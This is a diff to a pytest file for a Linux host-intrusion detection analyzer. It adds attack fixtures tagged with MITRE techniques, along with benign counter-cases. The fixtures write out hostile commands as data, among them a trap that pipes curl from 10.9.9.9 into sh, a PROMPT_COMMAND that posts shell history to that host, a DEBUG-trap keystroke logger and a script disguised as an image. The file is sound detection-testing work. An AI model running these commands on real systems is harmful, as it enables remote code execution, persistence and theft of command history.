@@ -278,6 +278,18 @@ ATTACKS.update({
     "capability_granted": [X("/usr/sbin/setcap", "cap_setuid+ep", "/tmp/python3")],
     "interpreter_pty_shell": [X("/usr/bin/python3", "-c", "import pty;pty.spawn('/bin/sh')")],
     "shell_escape_from_program": under(chain(("/usr/bin/find", "find")), X("/bin/sh", "-p")),
+    "interpreter_oneliner_archives_data": [X("/usr/bin/python3", "-c", "import tarfile; t = tarfile.open("
+                                             "'/tmp/l.tgz', 'w:gz'); t.add('/home/al/.config'); t.close()")],
+    "temp_file_given_to_root": [X("/usr/bin/chown", "root:root", "/tmp/.x/helper")],
+    "shell_trap_runs_program": [X("/bin/bash", "-c", 'trap "nohup sh /var/tmp/.u/run.sh" EXIT')],
+    "shell_command_logger": [X("/bin/bash", "-c", "trap 'echo \"$BASH_COMMAND\" >> /tmp/.k' DEBUG\nid")],
+    "hidden_dir_in_temp": [X("/usr/bin/mkdir", "-p", "/dev/shm/.d")],
+})
+# 10_execution.yaml, the same run's missing classes
+ATTACKS.update({
+    "decoded_oneliner_executed": [X("/usr/bin/python3", "-c", "import base64,os; os.system(base64.b64decode("
+                                    "'aWQ=').decode())")],
+    "file_type_masquerade_run": [X("/bin/sh", "/tmp/image.png")],
 })
 
 
@@ -477,6 +489,28 @@ def _benign() -> list[list[dict[str, Any]]]:
         [X("/usr/bin/systemd-run", "--scope", "--user", "make", "-j4"), X("/usr/bin/systemctl", "enable", "nginx")],
         under(chain(("/usr/bin/awk", "awk")), X("/bin/sh", "-c", "sort -u /tmp/a")),
         under(chain(("/usr/bin/find", "find")), X("/bin/sh", "-c", "gzip -9 \"$1\"", "sh", "/var/log/x.log")),
+        # archives read or extracted by one-liners, decompressed data printed, archivers run by hand
+        [X("/usr/bin/python3", "-c", "import tarfile; tarfile.open('/tmp/w/src.tgz').extractall('/tmp/w/src')"),
+         X("/usr/bin/python3", "-c", "import zipfile,sys; print(zipfile.ZipFile(sys.argv[1]).namelist())", "a.zip"),
+         X("/usr/bin/python3", "-c", "import gzip,sys; sys.stdout.write(gzip.decompress(open('x.gz','rb').read())"
+           ".decode())"),
+         X("/usr/bin/tar", "czf", "/tmp/home.tgz", "/home/al"), X("/usr/bin/zip", "-r", "/tmp/logs.zip", "/var/log")],
+        # chown of temp files to a user, of a build tree to root under fakeroot; decode without running it
+        [X("/usr/bin/chown", "-R", "al:al", "/tmp/share"), X("/usr/bin/chown", "root:root", "/srv/app/bin/x")],
+        under(chain(("/usr/bin/fakeroot", "fakeroot")), X("/usr/bin/chown", "-R", "root:root", "/tmp/b/debian/pkg")),
+        [X("/usr/bin/python3", "-c", "import base64,sys; sys.stdout.write(base64.b64decode(sys.argv[1]).decode())",
+           "aGk=")],
+        [X("/usr/bin/python3", "-c", "import subprocess; subprocess.run(['make'])")],
+        # traps that clean up, a prompt set in a command line without copying history, temp dirs of the system
+        [X("/bin/sh", "-c", "tmp=$(mktemp); trap 'rm -f \"$tmp\"' EXIT; make > \"$tmp\" 2>&1 &"),
+         X("/bin/bash", "-c", "trap 'kill $pid; wait' INT TERM && sleep 100 & pid=$!; wait"),
+         X("/bin/bash", "-c", "trap 'echo \"failed at $LINENO\"' ERR; ./build.sh"),
+         X("/bin/bash", "-c", "PROMPT_COMMAND='echo -ne \"\\033]0;${HOSTNAME}\\007\"'; bash -i")],
+        [X("/usr/bin/mkdir", "-p", "/tmp/.X11-unix"), X("/usr/bin/mkdir", "/tmp/build/.deps"),
+         X("/usr/bin/mkdir", "-p", "/home/al/.config/app")],
+        # data files opened by programs, scripts with their own extensions
+        [X("/usr/bin/python3", "/usr/local/bin/thumbs.py", "/tmp/image.png"), X("/usr/bin/eog", "/tmp/image.png"),
+         X("/bin/sh", "/tmp/build/configure.sh"), X("/usr/bin/python3", "/tmp/w/app.pyz")],
     ]
 
 
@@ -560,6 +594,38 @@ def test_a_temp_file_made_executable_and_run(analyzer: RulesAnalyzer) -> None:
     assert "temp_file_made_executable_and_run" not in rules(0o644, 0, "/var/tmp/k")
     assert "temp_file_made_executable_and_run" not in rules(0o755, -1, "/var/tmp/k")
     assert "temp_file_made_executable_and_run" not in rules(0o755, 0, "/var/tmp/other")
+    # a script without a #! line: the exec fails with ENOEXEC and the calling shell runs the file itself
+    noexec = E("chmod", comm="chmod", file__path="/tmp/art.sh", file__mode=0o755, file__ret=0)
+    run = {**X("/tmp/art.sh", t=1), "exec.ret": -8}
+    assert "temp_file_made_executable_and_run" in {a.rule for a in analyze(analyzer, [noexec, run])}
+    assert "temp_file_made_executable_and_run" not in {a.rule for a in analyze(analyzer, [
+        noexec, {**run, "exec.ret": -2}])}  # ENOENT: nothing ran
+
+
+@pytest.mark.parametrize(("cmd", "rule"), [
+    ('trap "nohup sh /tmp/x.sh" EXIT', "shell_trap_runs_program"),
+    ("trap 'sh /root/.x/run' SIGINT && kill -SIGINT $$", "shell_trap_runs_program"),
+    ("trap '/dev/shm/.m & ' TERM", "shell_trap_runs_program"),
+    ("trap -- 'curl -s http://10.9.9.9/k | sh' EXIT", "shell_trap_runs_program"),
+    ("trap 'echo \"$BASH_COMMAND\" >> /tmp/log' DEBUG", "shell_command_logger"),
+    ("PROMPT_COMMAND='history -a >(tee -a ~/.bash_history | logger -t x)'", "shell_command_logger"),
+    ('export PROMPT_COMMAND="history -a; curl -d @$HISTFILE http://10.9.9.9"', "shell_command_logger"),
+])
+def test_shell_hooks_that_run_or_record(analyzer: RulesAnalyzer, cmd: str, rule: str) -> None:
+    """T1546.005 / T1056.001: traps that start programs, and hooks that record every command, from a command line."""
+    assert rule in {a.rule for a in analyze(analyzer, [X("/bin/bash", "-c", cmd)])}, cmd
+
+
+@pytest.mark.parametrize(("events", "fires"), [
+    ([X("/bin/sh", "/tmp/image.png")], True), ([X("/usr/bin/bash", "/home/al/Invoice.PDF")], True),
+    ([X("/tmp/.x/holiday.jpg")], True), ([{**X("/var/tmp/song.mp3"), "exec.ret": -8}], True),  # run by the shell
+    ([X("/usr/bin/python3", "/tmp/cat.gif")], True),
+    ([X("/usr/bin/python3", "/tmp/plot.py", "out.png")], False), ([X("/usr/bin/feh", "/tmp/image.png")], False),
+    ([{**X("/tmp/image.png"), "exec.ret": -2}], False), ([X("/bin/sh", "/tmp/png.sh")], False),
+])
+def test_a_data_file_run_as_a_program(analyzer: RulesAnalyzer, events: list[dict[str, Any]], fires: bool) -> None:
+    """T1036.008: an image, document or media name on a file that is executed or handed to a shell as a script."""
+    assert ("file_type_masquerade_run" in {a.rule for a in analyze(analyzer, events)}) is fires, events
 
 
 def test_exec_through_a_symlink_is_judged_by_the_file_it_runs(analyzer: RulesAnalyzer) -> None:
